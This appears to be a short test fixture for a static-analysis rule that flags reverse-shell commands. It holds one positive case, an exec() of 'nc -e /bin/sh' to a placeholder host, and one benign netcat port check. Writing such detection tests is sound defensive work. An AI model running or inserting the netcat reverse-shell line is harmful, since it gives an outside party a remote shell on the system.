// ruleid: shells-reverse-command
exec("nc -e /bin/sh a.invalid 99");
// ok: shells-reverse-command
exec("nc -z localhost 80");
